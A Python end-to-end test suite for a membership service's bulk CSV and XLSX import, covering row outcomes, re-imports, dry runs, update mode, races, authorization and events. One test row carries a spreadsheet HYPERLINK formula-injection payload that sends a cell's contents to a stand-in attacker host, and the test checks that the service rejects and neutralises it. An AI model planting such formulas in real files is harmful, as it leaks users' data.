"""Bulk upload end to end: every outcome, re-imports, dry runs, update mode, concurrency,
authorization, and the events other systems get."""

from __future__ import annotations

import io
import time
import uuid
from typing import Any

import pytest
from aiokafka import AIOKafkaConsumer, TopicPartition
from openpyxl import Workbook

from tests.e2e.import_support import (
    accounts_with,
    csv_file,
    imports_path,
    list_imports,
    mail_count,
    results,
    run_import,
    tag,
    upload,
    wait_import,
)
from tests.support import (
    Api,
    added_person,
    bearer,
    envelope_of,
    invitation_token,
    list_invitations,
    patch_member,
    report_row,
    subject_has,
    wait_for,
    wait_mail_matching,
    wait_row,
)

pytestmark = pytest.mark.e2e

HEADER = ["Name", "E-mail", "Role", "Employee ID", "Groups"]
INVITED = "the email already has an account: invitation sent"


async def group_names(api: Api, admin: Any) -> dict[str, str]:
    r = await api.http.get(
        api.url("membership", f"/v1/departments/{admin.department_id}/groups"),
        headers=admin.headers,
    )
    assert r.status_code == 200, r.text
    return {g["group_id"]: g["name"] for g in r.json()["items"]}


async def read_import_events(bootstrap: str, import_id: str, timeout: float = 60.0) -> list[Any]:
    """The import's events on membership.events.v1, read from the bus like a subscriber."""
    consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap, enable_auto_commit=False)
    await consumer.start()
    try:
        await consumer.topics()
        partitions = consumer.partitions_for_topic("membership.events.v1") or set()
        assigned = [TopicPartition("membership.events.v1", p) for p in sorted(partitions)]
        consumer.assign(assigned)
        await consumer.seek_to_beginning(*assigned)
        found: dict[str, Any] = {}
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for records in (await consumer.getmany(timeout_ms=500)).values():
                for record in records:
                    # Other tests put unreadable records on this topic on purpose
                    # (dead-letter tests): a subscriber skips what it cannot read.
                    envelope = envelope_of(record.value)
                    if envelope is None:
                        continue
                    if envelope["data"].get("import_id") == import_id:
                        found[envelope["event_id"]] = envelope
            types = [e["type"] for e in found.values()]
            if "membership.import_finished" in types:
                return sorted(found.values(), key=lambda e: e["occurred_at"])
        raise AssertionError(f"no import_finished for {import_id} within {timeout}s")
    finally:
        await consumer.stop()


async def test_a_file_mixing_every_outcome_gives_exactly_the_expected_results(
    api: Api, bootstrap: str
) -> None:
    admin = await api.create_department()
    elsewhere = await api.create_department()
    t = tag()
    outsider = f"outsider-{t}@example.org"  # has an account, in another department
    assert (await api.add_member(elsewhere, outsider, name="Otto Outsider")).status_code == 201
    member = await added_person(api, admin)
    r = await patch_member(api, admin, member.account_id, {"employee_id": f"E-{t}-1"})
    assert r.status_code == 200, r.text
    ana, bo = f"ana-{t}@example.org", f"bo-{t}@example.org"
    rows = [
        HEADER,
        ["Ana Lima", ana.upper(), "Officer", f"E-{t}-2", f"Night {t}; Medics {t}"],  # 2
        ["Bo Lee", bo, "", "", ""],  # 3
        ["Otto Outsider", outsider, "member", "", ""],  # 4
        ["Pat Member", member.email, "admin", "", ""],  # 5
        ["Ana Again", ana, "", "", ""],  # 6
        ["Cy", "cy-at-example.org", "", "", ""],  # 7
        ["Dee", f"dee-{t}@example.org", "captain", "", ""],  # 8
        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', f"eve-{t}@example.org", "", "", ""],
        ["Fay", f"fay-{t}@example.org", "", f"E-{t}-1", ""],  # 10: the member's ID
        ["", f"gus-{t}@example.org", "", "", ""],  # 11: no name for a new account
        ["", "", "", "", ""],  # blank: not a row
        ["Hal", f"hal-{t}@example.org", "member", "", f"Night {t}"],  # 13
    ]
    status = await run_import(api, admin, csv_file(rows), file_name="staff.csv")
    assert status["counts"] == {
        "created": 3,
        "invited": 1,
        "already_member": 1,
        "updated": 0,
        "duplicate_in_file": 1,
        "invalid": 5,
        "pending": 0,
    }
    assert status["total_rows"] == 11
    assert status["processed"] == 11
    assert status["columns"] == {
        "name": "Name",
        "email": "E-mail",
        "role": "Role",
        "employee_id": "Employee ID",
        "groups": "Groups",
    }
    assert status["file_name"] == "staff.csv" and status["file_type"] == "csv"

    got = await results(api, admin, status["import_id"])
    assert got[0] == ["line", *HEADER, "outcome", "reason"]
    outcomes = [(r[0], r[-2], r[-1]) for r in got[1:]]
    assert outcomes == [
        ("2", "created", ""),
        ("3", "created", ""),
        ("4", "invited", INVITED),
        ("5", "already_member", "already a member: left as they are"),
        ("6", "duplicate_in_file", "same email as line 2"),
        (
            "7",
            "invalid",
            "not a valid email address: An email address must have an @-sign.",
        ),
        ("8", "invalid", "unknown role 'captain': use admin, officer or member"),
        (
            "9",
            "invalid",
            f"name {rows[8][0][:40]!r} starts with '=': a spreadsheet would run it as a formula",
        ),
        (
            "10",
            "invalid",
            f"employee ID 'E-{t}-1' is already used by another person in this department",
        ),
        ("11", "invalid", "name is missing (needed to create an account)"),
        ("13", "created", ""),
    ]
    # The input comes back as it was, except that a formula is neutralised.
    assert got[1][1:6] == rows[1]
    assert got[8][1] == "'" + rows[8][0]

    # The people: three new members with what their rows said, emailed their credentials.
    groups = await group_names(api, admin)
    assert sorted(groups.values()) == sorted([f"Medics {t}", f"Night {t}"])
    row = await api.wait_reported(admin, ana)
    assert (row["role"], row["employee_id"]) == ("officer", f"E-{t}-2")
    assert sorted(g["name"] for g in row["groups"]) == [f"Medics {t}", f"Night {t}"]
    for email in (ana, bo, f"hal-{t}@example.org"):
        [mail] = await api.wait_mail(email)
        assert "/set-password?token=" in mail["text"]
    # The outsider keeps their account and is invited; the member is left alone.
    [invitation] = await wait_mail_matching(
        api, outsider, subject_has("invited"), what="invitation"
    )
    assert invitation_token(invitation)
    pending = [i["email"] for i in await list_invitations(api, admin, "pending")]
    assert pending == [outsider]
    assert (await report_row(api, admin, member.account_id) or {})["role"] == "member"
    assert await mail_count(api, [f"dee-{t}@example.org", f"fay-{t}@example.org"]) == {
        f"dee-{t}@example.org": 0,
        f"fay-{t}@example.org": 0,
    }

    # Other systems hear that it started and how it ended.
    events = await read_import_events(bootstrap, status["import_id"])
    started, finished = events[0], events[-1]
    assert started["type"] == "membership.import_started"
    assert started["data"]["rows"] == 11 and started["data"]["file_name"] == "staff.csv"
    assert finished["type"] == "membership.import_finished"
    assert {k: finished["data"][k] for k in status["counts"] if k != "pending"} == {
        k: v for k, v in status["counts"].items() if k != "pending"
    }

    # The department's list shows it, newest first.
    listed = await list_imports(api, admin)
    assert [i["import_id"] for i in listed] == [status["import_id"]]
    assert listed[0]["counts"] == status["counts"]


async def test_the_same_file_twice_creates_nothing_and_sends_nothing_the_second_time(
    api: Api,
) -> None:
    admin = await api.create_department()
    elsewhere = await api.create_department()
    t = tag()
    outsider = f"twice-out-{t}@example.org"
    assert (await api.add_member(elsewhere, outsider)).status_code == 201
    new = [f"twice{i}-{t}@example.org" for i in range(3)]
    data = csv_file(
        [["Name", "Email"], *[[f"N {i}", e] for i, e in enumerate(new)], ["O", outsider]]
    )

    first = await run_import(api, admin, data)
    assert (first["counts"]["created"], first["counts"]["invited"]) == (3, 1)
    for email in new:
        await api.wait_mail(email)
    await wait_mail_matching(api, outsider, subject_has("invited"), what="invitation")
    before = await mail_count(api, [*new, outsider])

    second = await run_import(api, admin, data)
    assert second["counts"]["created"] == 0
    assert second["counts"]["already_member"] == 3
    assert second["counts"]["invited"] == 1  # the pending invitation stands
    got = await results(api, admin, second["import_id"])
    assert got[-1][-2:] == [
        "invited",
        "the email already has an account and a pending invitation to this department",
    ]
    # A fence: mail sent after the second import arrives, and nothing else did.
    fence = f"twice-fence-{t}@example.org"
    assert (await api.add_member(admin, fence)).status_code == 201
    await api.wait_mail(fence)
    assert await mail_count(api, [*new, outsider]) == before
    # One credentials email each; the outsider's credentials (elsewhere) and invitation.
    assert before == {**dict.fromkeys(new, 1), outsider: 2}
    assert len(await list_invitations(api, admin, "pending")) == 1
    rows = await api.report_users(admin)
    assert sorted(u["email"] for u in rows if u["email"] in new) == sorted(new)


async def test_an_import_racing_an_admin_who_adds_one_of_its_emails_makes_one_account(
    api: Api, stack: Any
) -> None:
    if stack is None:
        pytest.skip("PRODIGY_TEST_TARGET=external: counts accounts in identity's database")
    admin = await api.create_department()
    t = tag()
    emails = [f"race{i:03d}-{t}@example.org" for i in range(300)]
    contested = emails[150]
    data = csv_file([["Name", "Email"], *[[f"R {i}", e] for i, e in enumerate(emails)]])

    r = await upload(api, admin, data)
    assert r.status_code == 202, r.text
    by_hand = await api.add_member(admin, contested, name="By Hand")
    status = await wait_import(api, admin, r.json()["import_id"])

    assert by_hand.status_code in (201, 202, 409), by_hand.text
    counts = await accounts_with(stack.database_url("identity"), emails)
    assert set(counts.values()) == {1}, [e for e, n in counts.items() if n != 1]
    got = {row[2]: row[-2] for row in await results(api, admin, status["import_id"])}
    assert got[contested] in ("created", "already_member", "invited")
    assert status["counts"]["created"] >= 299
    # Whoever won, the person ends up a member exactly once, with one credentials email.
    await api.wait_reported(admin, contested)
    reported = [u for u in await api.report_users(admin) if u["email"] == contested]
    assert len(reported) == 1
    await wait_mail_matching(api, contested, subject_has("account"), what="credentials email")
    fence = f"race-fence-{t}@example.org"
    assert (await api.add_member(admin, fence)).status_code == 201
    await api.wait_mail(fence)
    credentials = [m for m in await api.mails(contested) if subject_has("account")(m)]
    assert len(credentials) == 1


async def test_dry_run_reports_the_outcomes_and_changes_nothing(api: Api, stack: Any) -> None:
    admin = await api.create_department()
    elsewhere = await api.create_department()
    t = tag()
    outsider = f"dry-out-{t}@example.org"
    assert (await api.add_member(elsewhere, outsider)).status_code == 201
    member = await added_person(api, admin)
    new = f"dry-new-{t}@example.org"
    data = csv_file(
        [
            ["Name", "Email", "Groups"],
            ["New One", new, f"Dry {t}"],
            ["Out", outsider, ""],
            ["Mem", member.email, ""],
            ["Bad", "nope", ""],
        ]
    )
    preview = await run_import(api, admin, data, dry_run=True)
    assert preview["dry_run"] is True
    expected = ["created", "invited", "already_member", "invalid"]
    assert [r[-2] for r in (await results(api, admin, preview["import_id"]))[1:]] == expected

    # Nothing happened: no account, no group, no invitation, no email, nobody reported.
    if stack is not None:
        assert await accounts_with(stack.database_url("identity"), [new]) == {new: 0}
    assert await group_names(api, admin) == {}
    assert await list_invitations(api, admin) == []
    fence = f"dry-fence-{t}@example.org"
    assert (await api.add_member(admin, fence)).status_code == 201
    await api.wait_reported(admin, fence)
    assert await mail_count(api, [new, outsider]) == {new: 0, outsider: 1}
    assert new not in [u["email"] for u in await api.report_users(admin)]

    # The real run does what the preview said.
    real = await run_import(api, admin, data)
    assert [r[-2] for r in (await results(api, admin, real["import_id"]))[1:]] == expected
    await api.wait_mail(new)
    assert [i["import_id"] for i in await list_imports(api, admin)] == [
        real["import_id"],
        preview["import_id"],
    ]


async def test_update_mode_gives_members_the_role_id_and_groups_of_their_row(api: Api) -> None:
    admin = await api.create_department()
    t = tag()
    pat = await added_person(api, admin)
    kim = await added_person(api, admin)
    r = await patch_member(api, admin, kim.account_id, {"employee_id": f"K-{t}"})
    assert r.status_code == 200
    first = await run_import(
        api,
        admin,
        csv_file([["Email", "Groups"], [pat.email, f"Old {t}"], [kim.email, f"Old {t}"]]),
        mode="update",
    )
    assert first["counts"]["updated"] == 2
    newcomer = f"upd-new-{t}@example.org"
    data = csv_file(
        [
            ["Email", "Name", "Role", "Employee ID", "Groups"],
            [pat.email, "", "Officer", f"P-{t}", f"New {t}"],
            [kim.email, "", "", "", ""],  # empty cells change nothing
            [admin.email, "", "member", "", ""],  # the only admin cannot be demoted
            [newcomer, "New Person", "member", "", ""],
        ]
    )
    second = await run_import(api, admin, data, mode="update")
    got = [(r[-2], r[-1]) for r in (await results(api, admin, second["import_id"]))[1:]]
    assert got == [
        (
            "updated",
            f"role member -> officer; employee ID (none) -> P-{t}; groups +New {t} -Old {t}",
        ),
        ("already_member", "already a member: nothing to change"),
        ("invalid", "This is the department's only admin; make someone else admin first."),
        ("created", ""),
    ]
    row = await wait_row(
        api,
        admin,
        pat.account_id,
        lambda r: r is not None and r["role"] == "officer" and len(r["groups"]) == 1,
        what="pat updated",
    )
    assert row is not None
    assert row["employee_id"] == f"P-{t}"
    assert [g["name"] for g in row["groups"]] == [f"New {t}"]
    kept = await report_row(api, admin, kim.account_id)
    assert kept is not None and kept["employee_id"] == f"K-{t}"
    assert [g["name"] for g in kept["groups"]] == [f"Old {t}"]
    await api.wait_mail(newcomer)


async def test_xlsx_upload_with_aliases_and_first_last_names(api: Api) -> None:
    admin = await api.create_department()
    t = tag()
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["First name", "Last name", "Email address", "Employee number", "Team"])
    sheet.append(["Zoë", "Ünal", f"zoe-{t}@example.org", 1042, f"Crew {t}"])
    out = io.BytesIO()
    workbook.save(out)
    status = await run_import(api, admin, out.getvalue(), file_name="people.xlsx")
    assert status["file_type"] == "xlsx"
    assert status["counts"]["created"] == 1
    row = await api.wait_reported(admin, f"zoe-{t}@example.org")
    assert (row["name"], row["employee_id"]) == ("Zoë Ünal", "1042")
    assert [g["name"] for g in row["groups"]] == [f"Crew {t}"]


async def test_only_the_departments_admins_import(api: Api) -> None:
    admin = await api.create_department()
    other = await api.create_department()
    officer = await added_person(api, admin, role="officer")
    member = await added_person(api, admin)
    data = csv_file([["Email"], [f"authz-{tag()}@example.org"]])
    for headers, status in (
        (officer.headers, 403),
        (member.headers, 403),
        (other.headers, 403),
        ({}, 401),
    ):
        r = await upload(api, admin, data, headers=headers)
        assert r.status_code == status, r.text
        for path in ("", "/template.csv", f"/{uuid.uuid4()}"):
            got = await api.http.get(
                api.url("membership", imports_path(admin, path)), headers=headers
            )
            assert got.status_code == status, (path, got.text)
    assert await list_imports(api, admin) == []
    # Another department's import is not found through this one.
    theirs = await run_import(api, other, data)
    r = await api.http.get(
        api.url("membership", imports_path(admin, f"/{theirs['import_id']}/results.csv")),
        headers=admin.headers,
    )
    assert r.status_code == 404
    # A platform operator may load people for a department (the CLI does).
    operator = bearer(api.keys.operator_token())
    r = await upload(
        api,
        admin,
        csv_file([["Name", "Email"], ["Op", f"op-{tag()}@example.org"]]),
        headers=operator,
    )
    assert r.status_code == 202, r.text


async def test_templates_are_downloadable(api: Api) -> None:
    admin = await api.create_department()
    r = await api.http.get(
        api.url("membership", imports_path(admin, "/template.csv")), headers=admin.headers
    )
    assert r.status_code == 200
    assert r.content.decode("utf-8-sig") == "Name,Email,Role,Employee ID,Groups\r\n"
    r = await api.http.get(
        api.url("membership", imports_path(admin, "/template.xlsx")), headers=admin.headers
    )
    assert r.status_code == 200
    assert r.content.startswith(b"PK")
    # The template as downloaded is a file the upload accepts (it only needs rows).
    refused = await upload(api, admin, r.content, file_name="template.xlsx")
    assert refused.status_code == 422 and refused.json()["type"].endswith("/no-rows")


async def test_progress_is_visible_while_it_runs(api: Api) -> None:
    admin = await api.create_department()
    t = tag()
    n = 1500
    data = csv_file(
        [["Name", "Email"], *[[f"P {i}", f"prog{i}-{t}@example.org"] for i in range(n)]]
    )
    r = await upload(api, admin, data)
    assert r.status_code == 202
    url = api.url("membership", r.json()["import_url"])
    seen: list[tuple[int, str]] = []

    async def finished() -> bool:
        body: dict[str, Any] = (await api.http.get(url, headers=admin.headers)).json()
        assert body["total_rows"] == n
        assert sum(body["counts"].values()) == n
        seen.append((body["processed"], body["status"]))
        return bool(body["status"] == "finished")

    await wait_for(finished, timeout=120, interval=0.05, what="the import to finish")
    assert seen[0][1] == "running" and seen[-1] == (n, "finished")
    assert [p for p, _ in seen] == sorted(p for p, _ in seen)  # progress only goes up
